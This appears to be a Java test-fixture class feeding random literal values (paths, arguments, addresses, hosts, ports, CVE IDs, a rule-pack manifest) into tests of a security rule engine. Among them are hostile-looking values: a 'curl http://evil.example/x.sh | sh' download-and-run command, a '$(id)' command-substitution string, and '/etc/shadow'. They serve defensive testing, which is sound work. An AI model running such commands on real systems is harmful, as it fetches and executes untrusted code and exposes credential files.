package dev.plumbline.rules;

import java.util.List;
import java.util.Locale;
import java.util.Random;

/** The values that {@link RandomRules} asks for and {@link RandomEvents} have, so that one meets the other. */
final class Literals {
    static final List<String> PATHS = List.of(
            "/bin/sh",
            "/usr/bin/curl",
            "/usr/bin/python3.11",
            "/tmp/x.sh",
            "/tmp/.hidden/\u00e9vil",
            "/opt/\u65e5\u672c/\u5de5\u5177",
            "/tmp/\ud83d\ude00",
            "/tmp/a b+(c).sh",
            "/tmp/it's",
            "/tmp/say \"hi\"",
            "/tmp/back\\slash",
            "/443",
            "/etc/shadow",
            "sh",
            "/bin/h");
    static final List<String> NAMES =
            PATHS.stream().map(it -> it.substring(it.lastIndexOf('/') + 1)).toList();
    static final List<String> ARGS = List.of(
            "-c",
            "--privileged",
            "x",
            "curl http://evil.example/x.sh | sh",
            "443",
            "\u00fc",
            "\ud83d\ude00\ud83d\ude01",
            "a\tb",
            "a'b\"c\\d",
            "sh",
            "$(id)",
            "/tmp/x.sh",
            "--");
    static final List<String> SERVICES = List.of("web", "WEB", "web-1", "shop", "s\u00fcd", "443");
    static final List<String> ADDRESSES = List.of(
            "10.0.0.1",
            "10.255.255.255",
            "11.0.0.0",
            "192.168.1.1",
            "169.254.169.254",
            "2001:db8::1",
            "2001:DB8:0:0::1",
            "::ffff:10.0.0.1",
            "::1",
            "fe80::1",
            "10.0.0",
            "no address");
    static final List<String> BLOCKS = List.of(
            "10.0.0.0/8",
            "10.0.0.1",
            "10.0.0.1/32",
            "0.0.0.0/0",
            "192.168.0.0/16",
            "169.254.169.254/31",
            "2001:db8::/32",
            "::/0",
            "::ffff:10.0.0.0/104",
            "fe80::/10");
    static final List<String> HOSTS =
            List.of("evil.example", "EVIL.example", "a.b.evil.example", "xn--bcher-kva.example", "localhost", "x");
    static final List<String> IMAGES = List.of(
            "registry.example/shop/web:1", "registry.example/shop/web@sha256:00", "docker.io/library/alpine:3", "web");
    static final List<String> DIGESTS = List.of("sha256:00", "sha256:0f", "SHA256:00");
    static final List<String> FLAWS = List.of("CVE-2024-3094", "CVE-2021-44228", "GHSA-x");
    static final List<Long> USERS = List.of(0L, 1L, 443L, 1000L, 65534L, -1L, 4294967295L, Long.MAX_VALUE);
    static final List<Integer> PORTS = List.of(0, 22, 53, 80, 443, 1024, 65535, -1);
    static final List<Integer> MODES = List.of(0, 493, 2541, 511);
    static final List<String> LISTS = List.of("shells", "globs", "services");

    /** The manifest of a pack whose lists name some of the words. */
    static final String MANIFEST = """
            name: random
            version: "1"
            lists:
              shells: [sh, "443", "évil"]
              globs: ["/tmp/*", "*.sh", "python3*", "*example*", "-*"]
              services: [web, shop, süd, "10.0.0.1"]
            """;

    private Literals() {}

    static <T> T any(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Almost {@code word}: a character more or less, in another case, or doubled. */
    static String nearMiss(Random random, String word) {
        if (word.isEmpty()) {
            return " ";
        }
        int at = random.nextInt(word.length());
        return switch (random.nextInt(9)) {
            case 0 -> word + "x";
            case 1 -> "x" + word;
            case 2 -> word.substring(1);
            case 3 -> word.substring(0, word.length() - 1);
            case 4 -> word.toUpperCase(Locale.ROOT);
            case 5 -> word + word;
            case 6 -> word + "\n";
            case 7 -> word.substring(0, at) + "\u00fc" + word.substring(at);
            default -> word.substring(0, at) + word.substring(at + 1);
        };
    }
}
